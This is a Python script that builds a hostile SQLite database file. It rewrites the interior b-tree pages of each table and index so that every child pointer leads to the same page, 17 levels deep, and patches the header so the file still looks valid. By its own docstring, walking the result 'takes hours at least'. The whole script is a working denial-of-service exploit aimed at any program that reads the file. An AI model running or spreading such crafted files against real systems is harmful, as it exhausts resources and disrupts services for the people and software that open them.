#!/usr/bin/env python3
"""Makes a catalogue whose trees never end: hostile_db.py FROM TO [NAME ...]

In each tree of FROM (or in the tables and indices named), all children of the
root become one new page, whose children are again one page, and so on, to the
depth that SQLite accepts. Every page is well formed, the schema is unchanged,
the file is a few pages larger, and a walk over the tree takes hours at least.
Trees whose root has fewer than three children stay unchanged.
"""
import sqlite3
import struct
import sys

DEPTH = 17  # SQLite follows 20 levels


def cells(page):
    """The offsets of the children of an interior page, the last one
    included."""
    n = struct.unpack(">H", page[3:5])[0]
    at = [struct.unpack(">H", page[12 + 2 * i:14 + 2 * i])[0]
          for i in range(n)]
    return at + [8]


def children(page):
    return [struct.unpack(">I", page[at:at + 4])[0] for at in cells(page)]


def main():
    source, target, names = sys.argv[1], sys.argv[2], sys.argv[3:]
    db = sqlite3.connect(source)
    db.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    roots = {name: root for name, root in db.execute(
        "SELECT name, rootpage FROM sqlite_schema WHERE rootpage > 0")}
    size = db.execute("PRAGMA page_size").fetchone()[0]
    db.close()

    data = bytearray(open(source, "rb").read())
    pages = len(data) // size
    assert len(data) % size == 0, "a whole file"

    def get(number):
        return data[(number - 1) * size:number * size]

    def put(number, page):
        data[(number - 1) * size:number * size] = page

    made = []
    for name in names or sorted(roots):
        root = get(roots[name])
        if root[0] not in (2, 5) or len(children(root)) < 3:
            assert not names, name + " is too small"
            continue
        child = children(root)[0]
        while get(child)[0] in (2, 5):
            child = children(get(child))[0]
        for level in range(DEPTH):
            page = bytearray(root)
            for at in cells(page):
                page[at:at + 4] = struct.pack(">I", child)
            if level == DEPTH - 1:
                put(roots[name], page)
            else:
                data.extend(page)
                pages += 1
                child = pages
        made.append(name)
    assert made, "every tree is too small"
    data[28:32] = struct.pack(">I", pages)
    # The size is used only if these two fields are equal.
    data[92:96] = data[24:28]
    open(target, "wb").write(data)
    print(*made)


main()
